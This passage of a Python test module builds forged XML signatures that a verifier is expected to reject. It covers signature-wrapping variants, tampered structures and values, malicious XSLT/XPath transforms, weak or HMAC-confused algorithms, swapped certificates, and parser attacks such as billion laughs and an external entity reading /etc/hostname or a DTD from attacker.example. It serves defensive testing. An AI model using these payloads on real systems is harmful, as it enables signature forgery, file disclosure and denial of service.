# SPDX-License-Identifier: Apache-2.0
"""xml_attacks.py - XML signatures that must never pass. A case: attack(class, name, indications, rules, document)."""

import re
import unicodedata

import cms_keys as keys
import cms_message as m
import cms_pki as pki
import xml_sign as x
from cms_attacks import DOUBT, EITHER, FAILED
from cms_world import TRUE_NAME, person
from xml_sign import DATA, FORGED, HERE, RESULT, Signing

UNREAD = "NOT_READABLE"
REFUSED = "NOT_READABLE|TOTAL-FAILED|INDETERMINATE"
NO_ID = FORGED.replace(' Id="data"', "")
OTHER_ID = FORGED.replace('"data"', '"other"')


def result(*inside):
    return f"<r:result {x.RESULT_NAMESPACES}>{''.join(inside)}</r:result>"


# refuses: HASH, XML-20, XML-21, XML-24, XML-25, XML-28, XML-36 (wrapping)
def wrapping(w, attack):
    """The signed element stands elsewhere, and readers find another in its place: XSW1 to XSW8 and their kin."""
    for kind, more in (("xades", {}), ("plain", {"xades": False})):
        by_id = Signing(RESULT, w.official, uri="#data", **more)
        enveloped = Signing(RESULT, w.official, **more)
        sig, whole = by_id.text(), enveloped.text()
        in_object = sig.replace("</ds:Signature>", f"<ds:Object>{DATA}</ds:Object></ds:Signature>")
        in_whole = whole.replace("</ds:Signature>", f"<ds:Object>{result(DATA)}</ds:Object></ds:Signature>")
        for name, rules, document in [
            ("original in an Object, forged without Id", "XML-25|XML-20", result(NO_ID, in_object)),
            ("original in an Object, forged with another Id", "XML-25|XML-20", result(OTHER_ID, in_object)),
            ("original in an Object, forged with the same Id", "XML-24|XML-28|HASH", result(FORGED, in_object)),
            ("original in an Object with an Id", "XML-25|XML-20", result(NO_ID, in_object.replace("<ds:Object><r:", '<ds:Object Id="o"><r:'))),
            ("original before, forged in place", "XML-25", result(f"<r:header>{DATA}</r:header>", NO_ID, sig)),
            ("original behind the signature", "XML-25", result(NO_ID, sig, f"<r:footer>{DATA}</r:footer>")),
            ("original before the forged one", "XML-25", result(DATA, NO_ID, sig)),
            ("original behind the forged one", "XML-25", result(NO_ID, DATA, sig)),
            ("original behind the forged one, another Id", "XML-25", result(OTHER_ID, DATA, sig)),
            ("forged around the original", "XML-25", result(NO_ID.replace("</r:data>", f"{DATA}</r:data>"), sig)),
            ("original deep inside the forged one", "XML-25", result(
                OTHER_ID.replace("</r:data>", f"<r:ext><r:ext>{DATA}</r:ext></r:ext></r:data>"), sig)),
            ("forged in another namespace", "XML-25", result(
                NO_ID.replace("<r:data>", '<r:data xmlns:r="urn:x-example:other">'), DATA, sig)),
            ("forged without a namespace", "XML-25", result("<data><amount>900</amount></data>", DATA, sig)),
            ("same Id twice, original first", "XML-24", result(DATA, FORGED, sig)),
            ("same Id twice, original second", "XML-24", result(FORGED, DATA, sig)),
            ("same Id as ID", "XML-24", result(FORGED.replace("Id=", "ID="), DATA, sig)),
            ("same Id as id", "XML-24", result(FORGED.replace("Id=", "id="), DATA, sig)),
            ("same Id as xml:id", "XML-24", result(FORGED.replace("Id=", "xml:id="), DATA, sig)),
            ("same Id in another case", "XML-24", result(FORGED.replace('"data"', '"DATA"'), DATA, sig)),
            ("same Id in a namespace", "XML-24", result(FORGED.replace("Id=", "r:Id="), DATA, sig)),
            ("Id moved to the forged one", "HASH", result(FORGED, NO_ID.replace("900", "100"), sig)),
            ("Id moved to the root", "HASH", result(NO_ID, sig).replace("<r:result", '<r:result Id="data"')),
            ("forged in place of the original", "HASH", result(FORGED, sig)),
            ("original gone", "XML-28", result(NO_ID, sig)),
            ("whole original in an Object", "HASH|XML-25|XML-20", result(FORGED, in_whole)),
            ("whole original inside a forged root", "HASH", result(FORGED, result(DATA, whole))),
            ("whole original beside, forged root", "HASH", f"<evil>{result(FORGED)}{result(DATA, whole)}</evil>"),
            ("signature moved out of the root", "HASH", f"<evil>{result(DATA)}{whole}</evil>"),
            ("forged signature around the whole", "HASH|XML-20|XML-21|XML-25", result(
                FORGED, f'<ds:Signature xmlns:ds="{x.DS}"><ds:Object>{result(DATA, whole)}</ds:Object></ds:Signature>')),
            ("signature inside the data", "HASH", result(DATA.replace("</r:data>", f"{sig}</r:data>"))),
        ]:
            attack("wrapping", f"{kind}, {name}", EITHER, rules, document)
    original = Signing(RESULT, w.official, uri="#data")
    sig = original.text()
    for name, fake in {
        "properties before": f'<ds:Object><xades:QualifyingProperties xmlns:xades="{x.XADES}" Target="#sig">{original.properties}'
                             "</xades:QualifyingProperties></ds:Object>",
        "properties with another certificate": x.qualifying(
            x.properties("sig", x.signing_certificate(w.insider.certificate)), "#sig"),
        "properties with another Id": x.qualifying(x.properties("fake", x.signing_certificate(w.insider.certificate)), "#sig"),
        "properties for another": x.qualifying(x.properties("fake", ""), "#other"),
    }.items():
        attack("wrapping", f"fake {name}", EITHER, "XML-36|XML-24|XML-20", result(DATA, sig.replace("<ds:Object>", f"{fake}<ds:Object>", 1)))
        attack("wrapping", f"fake {name}, behind", EITHER, "XML-36|XML-24|XML-20", result(DATA, sig.replace("</ds:Signature>", f"{fake}</ds:Signature>", 1)))


# refuses: XML-20, XML-21, XML-22, XML-23, XML-27, XML-37 (structure)
# refuses: HASH, VALUE, XML-35 (changed)
# refuses: XML-06, XML-22, XML-35 (values)
def structure(w, attack):
    honest = Signing(RESULT, w.official)
    document, info = honest.document(), honest.info()
    digest = re.search("<ds:DigestValue>([^<]+)<", document).group(1)
    value = re.search("<ds:SignatureValue[^>]*>([^<]+)<", document).group(1)
    forged = document.replace("100", "900")
    wrong = x.b64(keys.digest("sha256", x.canonicalize(RESULT.replace(HERE, "").replace("100", "900")).encode()))

    def changed(old, new, source=document):
        assert old in source, old
        return source.replace(old, new, 1)

    for name, rules, text in [
        ("SignedInfo twice", "XML-21", changed("</ds:SignedInfo>", f"</ds:SignedInfo>{info}")),
        ("forged SignedInfo before", "XML-21", changed("<ds:SignedInfo>", info.replace(digest, wrong) + "<ds:SignedInfo>", forged)),
        ("forged SignedInfo behind", "XML-21", changed("</ds:SignedInfo>", "</ds:SignedInfo>" + info.replace(digest, wrong), forged)),
        ("forged SignedInfo at the end", "XML-21", changed("</ds:Signature>", info.replace(digest, wrong) + "</ds:Signature>", forged)),
        ("original SignedInfo in an Object", "XML-20|VALUE", changed(
            "</ds:Signature>", f"<ds:Object>{info}</ds:Object></ds:Signature>", forged.replace(digest, wrong))),
        ("SignatureValue twice", "XML-21", changed("<ds:KeyInfo>", f"<ds:SignatureValue>{value}</ds:SignatureValue><ds:KeyInfo>")),
        ("KeyInfo twice", "XML-21", changed("<ds:KeyInfo>", x.x509(w.insider.certificate) + "<ds:KeyInfo>")),
        ("KeyInfo before SignedInfo", "XML-21", changed("<ds:SignedInfo>", x.x509(w.insider.certificate) + "<ds:SignedInfo>")),
        ("DigestValue twice", "XML-21", changed("<ds:DigestValue>", f"<ds:DigestValue>{wrong}</ds:DigestValue><ds:DigestValue>", forged)),
        ("no SignedInfo", "XML-21", document.replace(info, "")),
        ("no SignatureValue", "XML-21", re.sub("<ds:SignatureValue.*</ds:SignatureValue>", "", document)),
        ("empty SignatureValue", "XML-22", document.replace(value, "")),
        ("empty DigestValue", "XML-22", document.replace(digest, "")),
        ("no references", "XML-21", Signing(RESULT, w.official, xades=False, references=[]).document()),
        ("only its own properties", "XML-20|XML-27|XML-36|XML-28", Signing(RESULT, w.official, references=[]).document()),
        ("only an Object", "-", Signing(RESULT, w.official, xades=False, objects='<ds:Object Id="o">x</ds:Object>', references=[
            x.reference("#o", x.canonical('<ds:Object Id="o">x</ds:Object>'))]).document()),
        ("a foreign element inside", "XML-21", changed("<ds:KeyInfo>", "<evil/><ds:KeyInfo>")),
        ("text inside", "XML-21", changed("<ds:KeyInfo>", "pay 900<ds:KeyInfo>")),
        ("unsigned content in an Object", "XML-20", changed("</ds:Signature>", "<ds:Object><pay>900</pay></ds:Object></ds:Signature>")),
        ("unsigned content in a property", "XML-37|XML-21", changed("</xades:QualifyingProperties>", "<xades:UnsignedProperties>"
         "<xades:UnsignedSignatureProperties><pay>900</pay></xades:UnsignedSignatureProperties></xades:UnsignedProperties>"
         "</xades:QualifyingProperties>")),
        ("content hidden in KeyInfo", "XML-21|XML-35", changed("<ds:X509Data>", "<ds:KeyName>x</ds:KeyName><pay>900</pay><ds:X509Data>")),
        ("an attribute too many", "XML-23", changed("<ds:KeyInfo>", '<ds:KeyInfo evil="1">')),
        ("an Id in a namespace", "XML-23", changed('<ds:Signature xmlns', '<ds:Signature xmlns:e="urn:e" e:Id="x" xmlns')),
        ("another signature inside", "XML-20", changed("</ds:Signature>", f"<ds:Object>{document}</ds:Object></ds:Signature>")),
        ("an empty signature beside", "XML-20|XML-21", changed("</r:result>", f'<ds:Signature xmlns:ds="{x.DS}"/></r:result>')),
        ("signature in another namespace", "-", document.replace(x.DS, "http://www.w3.org/2000/09/xmldsig")),
        ("thirty-one references", "XML-27|XML-21", Signing(RESULT, w.official, references=[honest.references[0]] * 31).document()),
        ("the same reference twice", "XML-27", Signing(RESULT, w.official, references=[honest.references[0]] * 2).document()),
    ]:
        attack("structure", name, "TOTAL-FAILED|INDETERMINATE|NO_SIGNATURE", rules, text)
    for name, rules, text in [
        ("content", "HASH", forged), ("content before the signature", "HASH", changed("<ds:Signature", "<pay>900</pay><ds:Signature")),
        ("content behind the signature", "HASH", changed("</r:result>", "<pay>900</pay></r:result>")),
        ("text behind the signature", "HASH", changed("</r:result>", "900</r:result>")),
        ("an attribute of the root", "HASH", changed("<r:result ", '<r:result amount="900" ')),
        ("a namespace of the data", "HASH", changed("<r:data", '<r:data xmlns:r="urn:x-example:other"')),
        ("a namespace of the whole", "HASH", document.replace("urn:x-example:result", "urn:x-example:other")),
        ("a prefix", "HASH", document.replace("r:data", "q:data").replace("xmlns:r=", 'xmlns:q="urn:x-example:result" xmlns:r=')),
        ("white space", "HASH", changed("<r:data", "\n<r:data")), ("a name", "HASH", document.replace("r:amount", "r:Amount")),
        ("composed characters", "HASH", unicodedata.normalize("NFD", document)),
        ("digest and content", "VALUE", forged.replace(digest, wrong)), ("the digest", "HASH|VALUE", document.replace(digest, wrong)),
        ("the signature value", "VALUE", document.replace(value, x.b64(bytes(256)))),
        ("the method in SignedInfo", "VALUE|CMS-08", document.replace("more#rsa-sha256", "more#rsa-sha512")),
        ("the signing time", "HASH", document.replace("2026-11-24T08", "2020-11-24T08")),
        ("the certificate in the properties", "HASH|XML-35", document.replace(
            x.b64(keys.digest("sha256", w.official.certificate.der)), x.b64(keys.digest("sha256", w.insider.certificate.der)))),
        ("a default namespace in SignedInfo", "-", document.replace("<ds:SignedInfo>", '<ds:SignedInfo xmlns="urn:e"><e/>')),
        ("ds redefined", "-", document.replace("<ds:SignedInfo>", '<ds:SignedInfo xmlns:ds="urn:e">')),
        ("ds redefined for the digest", "-", document.replace("<ds:DigestValue>", '<ds:DigestValue xmlns:ds="urn:e">')),
    ]:
        attack("changed", name, "TOTAL-FAILED|INDETERMINATE", rules, text)
    for place in ("DigestValue", "SignatureValue", "X509Certificate"):
        for name, extra in {"a comment": "<!-- x -->", "an element": "<x/>", "a cdata": "<![CDATA[]]>", "no base64": "*"}.items():
            attack("values", f"{name} in {place}", EITHER, "XML-22|XML-21|XML-06|XML-35", re.sub(
                f"(<ds:{place}[^>]*>....)", lambda found: found.group(1) + extra, document))
    for name, change in {
        "stray bits": lambda v: v[:-2] + chr(ord(v[-2]) + 1) + "=" if v.endswith("=") else v[:-1] + "!", "cut": lambda v: v[:-1],
        "padding too much": lambda v: v + "=", "url alphabet": lambda v: "-_" + v[2:], "a zero width space": lambda v: v[:4] + "​" + v[4:],
        "full width letters": lambda v: chr(ord(v[0]) + 0xFEE0) + v[1:], "twice": lambda v: v + v,
    }.items():
        attack("values", f"digest, {name}", FAILED, "XML-22|VALUE", document.replace(digest, change(digest)))
        attack("values", f"signature, {name}", EITHER, "XML-22|VALUE", document.replace(value, change(value)))


# refuses: XML-28 (reference)
# refuses: XML-30, XML-31 (transform)
def references(w, attack):
    honest = Signing(RESULT, w.official)

    def signed(**more):
        return Signing(RESULT, w.official, **more).document()

    def one(uri, transforms=(x.ENVELOPED, x.EXCLUSIVE), content=None, **more):
        return signed(references=[x.reference(uri, content or x.canonicalize(honest.plain).encode(), transforms, **more)])

    for name, uri in {
        "http": "http://attacker.example/document.xml", "https": "https://attacker.example/", "file": "file:///etc/hostname",
        "relative": "document.xml", "cid": "cid:1", "xpointer root": "#xpointer(/)", "xpointer id": "#xpointer(id('data'))",
        "xpointer path": "#xpointer(//r:data)", "empty fragment": "#", "escaped": "#%64ata", "nothing": "#nothing", "none": None,
        "query": "?x", "data": "data:text/plain,x", "element scheme": "#element(/1)", "two fragments": "#data#data",
        "a space": " ", "a space and an Id": "# data", "its own document": "attack.xml#data", "ftp": "ftp://attacker.example/x",
    }.items():
        attack("reference", name, EITHER, "XML-28", one(uri))
    for name, xml in {
        "xslt": "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet version=\"1.0\" "
                "xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template match=\"/\"><x/></xsl:template></xsl:stylesheet></ds:Transform>",
        "xpath true": f'<ds:Transform Algorithm="{x.XPATH}"><ds:XPath>true()</ds:XPath></ds:Transform>',
        "xpath false": f'<ds:Transform Algorithm="{x.XPATH}"><ds:XPath>false()</ds:XPath></ds:Transform>',
        "xpath without amounts": f'<ds:Transform Algorithm="{x.XPATH}"><ds:XPath>not(self::r:amount)</ds:XPath></ds:Transform>',
        "xpath almost ours": x.NO_SIGNATURES.replace("ds:Signature)", "ds:Signature) and not(self::r:amount)"),
        "xpath with another ds": x.NO_SIGNATURES.replace("<ds:XPath>", '<ds:XPath xmlns:ds="urn:x-example:result">'),
        "xpath filter 2": '<ds:Transform Algorithm="http://www.w3.org/2002/06/xmldsig-filter2"><f:XPath xmlns:f="http://www.w3.org/2002/06/'
                          'xmldsig-filter2" Filter="subtract">//r:amount</f:XPath></ds:Transform>',
        "base64": x.transform(f"{x.DS}base64"), "decryption": x.transform("http://www.w3.org/2002/07/decrypt#XML"),
        "unknown": x.transform("urn:x-example:transform"), "empty": x.transform(""),
        "security token": x.transform("http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-soap-message-security-1.0#STR-Transform"),
    }.items():
        attack("transform", name, EITHER, "XML-30|XML-21", one("", (x.ENVELOPED, xml, x.EXCLUSIVE)))
    attack("transform", "xslt alone over nothing", EITHER, "XML-30|XML-21", one("", (
        '<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"><x/></ds:Transform>',), b"x"))
    attack("transform", "canonical then enveloped", EITHER, "XML-30", one("", (x.EXCLUSIVE, x.ENVELOPED)))
    attack("transform", "canonical twice", EITHER, "XML-30", one("", (x.ENVELOPED, x.EXCLUSIVE, x.EXCLUSIVE)))
    attack("transform", "six", EITHER, "XML-30", one("", (x.ENVELOPED,) * 5 + (x.EXCLUSIVE,)))
    attack("transform", "enveloped with something in it", EITHER, "XML-30|XML-21", one("", (
        f'<ds:Transform Algorithm="{x.ENVELOPED}"><x/></ds:Transform>', x.EXCLUSIVE)))
    attack("transform", "enveloped on the Object it is in", EITHER, "-", signed(
        xades=False, objects='<ds:Object Id="o">x</ds:Object>', references=[x.reference("#o", b"", (x.ENVELOPED, x.EXCLUSIVE))]))
    attack("transform", "enveloped on the signature", EITHER, "XML-31|HASH", signed(
        references=[x.reference("#sig", b"", (x.ENVELOPED, x.EXCLUSIVE))]))
    attack("transform", "enveloped on SignedInfo", EITHER, "-", signed(
        change_info=lambda i: i.replace("<ds:SignedInfo>", '<ds:SignedInfo Id="info">'), xades=False,
        references=[x.reference("#info", b"", (x.ENVELOPED, x.EXCLUSIVE))]))
    attack("transform", "prefix list that is none", EITHER, "XML-30|HASH|XML-31", one("", (x.ENVELOPED, (
        f'<ds:Transform Algorithm="{x.EXCLUSIVE}"><ec:InclusiveNamespaces xmlns:ec="{x.EXCLUSIVE}" PrefixList="{"p " * 100}"/></ds:Transform>'))))
    attack("transform", "prefix list of another", EITHER, "XML-30|XML-21", one("", (x.ENVELOPED, (
        f'<ds:Transform Algorithm="{x.EXCLUSIVE}"><InclusiveNamespaces PrefixList="r"/></ds:Transform>'))))
    for name, uri in {"a manifest": f"{x.DS}Manifest", "an object": f"{x.DS}Object"}.items():
        inside = f'<ds:Manifest Id="manifest">{x.reference("#data", honest.element("data"))}</ds:Manifest>'
        attack("reference", f"content only through {name}", EITHER, "-", Signing(
            result(FORGED, HERE), w.official, xades=False, objects=f"<ds:Object>{inside}</ds:Object>",
            references=[x.reference("#manifest", x.canonical(inside), kind=uri)]).document())


# refuses: CMS-07d, CMS-08, HASH, UNDONE, VALUE, XML-22, XML-30, XML-33, XML-34 (algorithm)
# refuses: VALUE (ecdsa)
def algorithms(w, attack):
    def signed(**more):
        return Signing(RESULT, w.official, **more).document()

    for name, uri in {"hmac-sha1": f"{x.DS}hmac-sha1", "hmac-sha256": f"{x.MORE}hmac-sha256", "hmac-sha512": f"{x.MORE}hmac-sha512"}.items():
        import hmac
        for title, secret in {"an empty secret": b"", "the public key": w.official.key.spki, "the certificate": w.official.certificate.der}.items():
            attack("algorithm", f"{name} with {title}", FAILED, "XML-33", signed(
                method=uri, forge=lambda over, s=secret, n=name: hmac.new(s, over, n.split("-")[1]).digest()))
    attack("algorithm", "hmac of one bit", FAILED, "XML-33", signed(
        method=f"{x.MORE}hmac-sha256", method_inside="<ds:HMACOutputLength>1</ds:HMACOutputLength>", forge=lambda over: b"\x00"))
    attack("algorithm", "output length with rsa", FAILED, "XML-33", signed(method_inside="<ds:HMACOutputLength>0</ds:HMACOutputLength>"))
    for name, uri in {"none": "none", "empty": "", "rsa-md5": f"{x.MORE}rsa-md5", "dsa": f"{x.DS}dsa-sha1", "ripemd": f"{x.MORE}rsa-ripemd160",
                      "unknown": "urn:x-example:always-valid", "in capitals": f"{x.MORE}RSA-SHA256", "ecdsa with an rsa key": f"{x.MORE}ecdsa-sha256",
                      "pss with a version 1.5 value": "http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"}.items():
        attack("algorithm", f"signature {name}", EITHER, "XML-34|CMS-08|VALUE|UNDONE", signed(method=uri))
    for name, uri in {"none": "none", "md5": x.DIGESTS["md5"], "ripemd": "http://www.w3.org/2001/04/xmlenc#ripemd160", "empty": ""}.items():
        attack("algorithm", f"digest {name}", EITHER, "XML-34|CMS-08|HASH|XML-22", signed(references=[
            x.reference("", b"", (x.ENVELOPED, x.EXCLUSIVE), method=uri)]))
    for weak in ("sha1",):
        honest = Signing(RESULT, w.official)
        attack("algorithm", "sha1 everywhere", DOUBT, "CMS-08", signed(hash_name=weak, references=[honest.content_reference("", digest=weak)]))
        attack("algorithm", "sha1 for the value", DOUBT, "CMS-08", signed(hash_name=weak))
        attack("algorithm", "sha1 for the content", DOUBT, "CMS-08", signed(references=[honest.content_reference("", digest=weak)]))
        attack("algorithm", "sha1 for the properties", DOUBT, "CMS-08", signed(properties_reference=x.reference(
            "#sig-props", x.canonical(honest.properties), kind=x.PROPERTIES_TYPE, digest=weak)))
        attack("algorithm", "sha1 names the certificate", DOUBT, "CMS-07d|XML-34", signed(properties=x.properties(
            "sig", x.signing_certificate(w.official.certificate, digest=weak))))
    attack("algorithm", "md5 names the certificate", DOUBT, "CMS-07d|XML-34", signed(properties=x.properties(
        "sig", x.signing_certificate(w.official.certificate, digest="md5"))))
    for name, uri in {"unknown": "urn:x-example:c14n", "none": "", "xslt": "http://www.w3.org/TR/1999/REC-xslt-19991116",
                      "canonical 2": "http://www.w3.org/2010/xml-c14n2", "enveloped": x.ENVELOPED}.items():
        attack("algorithm", f"canonicalisation {name}", EITHER, "XML-30", signed(c14n=uri))
    clerk = w.clerk
    for name, change in {
        "der": lambda v: clerk.key.sign(v), "zeros": lambda v: bytes(64), "too wide": lambda v: bytes(2) + x.raw_value(clerk.key, v) + bytes(2),
        "r zero": lambda v: bytes(32) + x.raw_value(clerk.key, v)[32:], "s zero": lambda v: x.raw_value(clerk.key, v)[:32] + bytes(32),
        "halves with a zero each": lambda v: b"\x00" + x.raw_value(clerk.key, v)[:32] + b"\x00" + x.raw_value(clerk.key, v)[32:],
        "s is the order": lambda v: x.raw_value(clerk.key, v)[:32] + bytes.fromhex("ffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551"),
        "cut": lambda v: x.raw_value(clerk.key, v)[:-1], "odd": lambda v: x.raw_value(clerk.key, v) + b"\x00",
    }.items():
        attack("ecdsa", name, EITHER, "VALUE|XML-22", Signing(RESULT, clerk, forge=change).document())


# refuses: SIGNER, UNDONE, VALUE, XML-22, XML-35 (key-info)
# refuses: CMS-07, HASH, VALUE, XML-20, XML-21, XML-35, XML-36, XML-37 (properties)
# refuses: HASH, PDF-95, X5-01, XML-31 (replaced)
# refuses: REV-03, X5-02, X5-07, X5-06 (certificate)
def keys_and_properties(w, attack):
    official = w.official
    number = official.key.n.to_bytes(256, "big")
    key_value = (f"<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>{x.b64(number)}</ds:Modulus><ds:Exponent>AQAB</ds:Exponent>"
                 "</ds:RSAKeyValue></ds:KeyValue>")
    mine = x.b64(official.certificate.der)

    def signed(**more):
        return Signing(RESULT, official, **more).document()

    for name, rules, info in [
        ("key value only", "SIGNER|XML-35", f"<ds:KeyInfo>{key_value}</ds:KeyInfo>"), ("nothing", "SIGNER|XML-35", ""),
        ("empty", "SIGNER|XML-35|XML-21", "<ds:KeyInfo></ds:KeyInfo>"), ("a name only", "SIGNER|XML-35", "<ds:KeyInfo><ds:KeyName>minister</ds:KeyName></ds:KeyInfo>"),
        ("retrieval", "XML-35|SIGNER", '<ds:KeyInfo><ds:RetrievalMethod URI="http://attacker.example/key"/></ds:KeyInfo>'),
        ("retrieval of itself", "XML-35|SIGNER", '<ds:KeyInfo Id="k"><ds:RetrievalMethod URI="#k"/></ds:KeyInfo>'),
        ("pgp", "XML-35|SIGNER", "<ds:KeyInfo><ds:PGPData><ds:PGPKeyID>AAAA</ds:PGPKeyID></ds:PGPData></ds:KeyInfo>"),
        ("spki", "XML-35|SIGNER", "<ds:KeyInfo><ds:SPKIData><ds:SPKISexp>AAAA</ds:SPKISexp></ds:SPKIData></ds:KeyInfo>"),
        ("management data", "XML-35|SIGNER", "<ds:KeyInfo><ds:MgmtData>x</ds:MgmtData></ds:KeyInfo>"),
        ("subject name only", "XML-35|SIGNER", "<ds:KeyInfo><ds:X509Data><ds:X509SubjectName>CN=x</ds:X509SubjectName></ds:X509Data></ds:KeyInfo>"),
        ("certificate of another", "XML-35|VALUE|SIGNER", x.x509(w.insider.certificate)),
        ("certificate that is none", "XML-35|XML-22|SIGNER|UNDONE", "<ds:KeyInfo><ds:X509Data><ds:X509Certificate>AAAA</ds:X509Certificate></ds:X509Data></ds:KeyInfo>"),
        ("certificate in pem", "XML-22", f"<ds:KeyInfo><ds:X509Data><ds:X509Certificate>-----BEGIN CERTIFICATE-----{mine}"
         "-----END CERTIFICATE-----</ds:X509Certificate></ds:X509Data></ds:KeyInfo>"),
        ("something behind the certificate", "XML-35|SIGNER", f"<ds:KeyInfo><ds:X509Data><ds:X509Certificate>{x.b64(official.certificate.der + b'xx')}"
         "</ds:X509Certificate></ds:X509Data></ds:KeyInfo>"),
        ("twenty certificates", "XML-35", x.x509(official.certificate, *[w.issuing.issue(person("x"), w.clerk.key) for _ in range(20)])),
    ]:
        attack("key-info", name, "TOTAL-FAILED|INDETERMINATE", rules, signed(key_info=info))
        if name not in ("something behind the certificate", "twenty certificates", "certificate in pem"):
            attack("key-info", f"{name}, plain", "TOTAL-FAILED|INDETERMINATE", rules, signed(key_info=info, xades=False))
    attack("key-info", "two certificates, plain", DOUBT, "XML-35|SIGNER", signed(
        xades=False, key_info=x.x509(w.insider.certificate, official.certificate)))
    twin = w.issuing.issue(pki.name(("C", "VN"), ("O", "Chính phủ"), ("CN", "Thủ tướng")), official.key)
    other = m.Signer(twin, w.issuing.chain())
    honest = Signing(RESULT, official)
    own = x.signing_certificate(official.certificate)
    for name, rules, document in [
        ("swapped certificate", "XML-35|SIGNER", signed(key_info=x.x509(twin, w.issuing.certificate))),
        ("names another certificate", "XML-35|SIGNER|CMS-07", signed(properties=x.properties("sig", x.signing_certificate(w.insider.certificate)))),
        ("names another that came along", "VALUE|CMS-07|XML-35", signed(
            properties=x.properties("sig", x.signing_certificate(w.insider.certificate)),
            key_info=x.x509(official.certificate, w.insider.certificate, w.issuing.certificate))),
        ("names none", "XML-35", signed(properties=x.properties("sig", "<xades:SigningCertificateV2></xades:SigningCertificateV2>"))),
        ("names two ways", "XML-36", signed(properties=x.properties("sig", own + x.signing_certificate(
            w.insider.certificate, element="SigningCertificate")))),
        ("names it twice", "XML-36", signed(properties=x.properties("sig", own + own))),
        ("named only unsigned", "XML-36|XML-37|XML-21", signed(properties=x.properties("sig", ""), unsigned=(
            f"<xades:UnsignedProperties><xades:UnsignedSignatureProperties>{own}</xades:UnsignedSignatureProperties></xades:UnsignedProperties>"),
            key_info=x.x509(twin, w.issuing.certificate))),
        ("digest of the wrong length", "XML-35|XML-22", signed(properties=honest.properties.replace(
            x.b64(keys.digest("sha256", official.certificate.der)), x.b64(keys.digest("sha256", official.certificate.der)[:20])))),
        ("target is another", "XML-36", signed(target="#other")), ("target without #", "XML-36", signed(target="sig")),
        ("target is the root", "XML-36", signed(target="")), ("target elsewhere", "XML-36", signed(target="http://x.example/#sig")),
        ("not referenced", "XML-36", signed(properties_reference="")),
        ("type without a target", "XML-36|XML-28", signed(properties="", properties_reference=None, references=[
            honest.references[0].replace("<ds:Reference ", f'<ds:Reference Type="{x.PROPERTIES_TYPE}" ')])),
        ("type on the content, not the properties", "XML-36", signed(references=[honest.references[0].replace(
            "<ds:Reference ", f'<ds:Reference Type="{x.PROPERTIES_TYPE}" ')])),
        ("referenced by another type and replaced", "HASH", signed(properties_reference=x.reference(
            "#sig-props", x.canonical(honest.properties), kind="urn:x")).replace("2026-11-24T08", "2020-11-24T08")),
        ("twice in one", "XML-36|XML-21", honest.document().replace("</xades:SignedProperties>", (
            "</xades:SignedProperties>" + honest.properties.replace("sig-props", "more")), 1)),
        ("moved out of its Object", "XML-36|XML-21|HASH|XML-20", re.sub(
            "<ds:Object>(<xades:Qual.*</xades:QualifyingProperties>)</ds:Object>", "<ds:Object></ds:Object>", honest.document())),
        ("of another signature", "XML-36|HASH|XML-24", result(DATA, Signing(RESULT, official, "one").text(), Signing(
            RESULT, official, "two", properties="", properties_reference=None, references=[
                Signing(RESULT, official, "two").references[0], x.reference(
                    "#one-props", x.canonical(Signing(RESULT, official, "one").properties), kind=x.PROPERTIES_TYPE)]).text())),
        ("an unknown unsigned property", "XML-37", signed(unsigned="<xades:UnsignedProperties><xades:UnsignedSignatureProperties>"
         "<xades:Surprise/></xades:UnsignedSignatureProperties></xades:UnsignedProperties>")),
        ("a counter-signature of nothing", "XML-20|XML-21", signed(unsigned="<xades:UnsignedProperties><xades:UnsignedSignatureProperties>"
         f"<xades:CounterSignature>{Signing(RESULT, w.clerk, 'counter').text()}</xades:CounterSignature>"
         "</xades:UnsignedSignatureProperties></xades:UnsignedProperties>")),
    ]:
        attack("properties", name, "TOTAL-FAILED|INDETERMINATE", rules, document)
    attacker = m.Signer(pki.certificate(official.certificate.subject, w.insider.key, w.issuing.name, keys.ec_key(name="false root")))
    self_signed = m.Signer(pki.certificate(official.certificate.subject, w.insider.key, official.certificate.subject, w.insider.key))
    forged = RESULT.replace("100", "900")
    for name, signer in {"a false chain": attacker, "self-signed": self_signed}.items():
        attack("replaced", f"by {name}", DOUBT, "X5-01|X5-04", Signing(forged, signer).document())
        attack("replaced", f"by {name}, plain", DOUBT, "X5-01|X5-04", Signing(forged, signer, xades=False).document())
    attack("replaced", "a second one by an attacker", DOUBT, "X5-01|X5-04", double(w, self_signed))
    attack("replaced", "signature of another document", FAILED, "HASH", forged.replace(HERE, honest.text()))
    attack("replaced", "a detached one that is about nothing here", EITHER, "XML-28|XML-31", honest.text())
    expired = w.signer(person(TRUE_NAME), official.key, until=pki.NOW - pki.DAY)
    revoked = w.signer(person(TRUE_NAME), official.key)
    w.issuing.revoked.append(revoked.certificate.serial)
    for name, rules, signer in [("expired", "X5-06", expired), ("revoked", "REV-03", revoked), (
            "for encryption only", "X5-02", w.signer(person(TRUE_NAME), official.key, extensions=[
                pki.constraints(False), pki.usage("keyEncipherment")])), ("sha1 certificate", "X5-07", w.signer(
                    person(TRUE_NAME), w.clerk.key, hash_name="sha1")), ("short key", "CMS-08|X5-07", w.signer(
                        person(TRUE_NAME), keys.rsa_key(1024)))]:
        attack("certificate", name, DOUBT, rules, Signing(RESULT, signer).document())


def double(w, second):
    filtered = {"references": [x.reference("", x.canonicalize(RESULT.replace(HERE, "")).encode(), (x.NO_SIGNATURES, x.EXCLUSIVE))]}
    return result(DATA, Signing(RESULT, w.official, "one", **filtered).text(), Signing(RESULT, second, "two", **filtered).text())


# refuses: XML-02, XML-03 (doctype)
# refuses: XML-04, XML-05, XML-06, XML-22, XML-31 (parsing)
def parsing(w, attack):
    document = Signing(RESULT, w.official).document()
    declaration = '<?xml version="1.0" encoding="UTF-8"?>'
    laughs = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))
    for name, head in {
        "empty doctype": "<!DOCTYPE r:result>", "billion laughs": f'<!DOCTYPE r:result [<!ENTITY e0 "ha">{laughs}]>',
        "external entity": '<!DOCTYPE r:result [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        "external subset": '<!DOCTYPE r:result SYSTEM "http://attacker.example/x.dtd">',
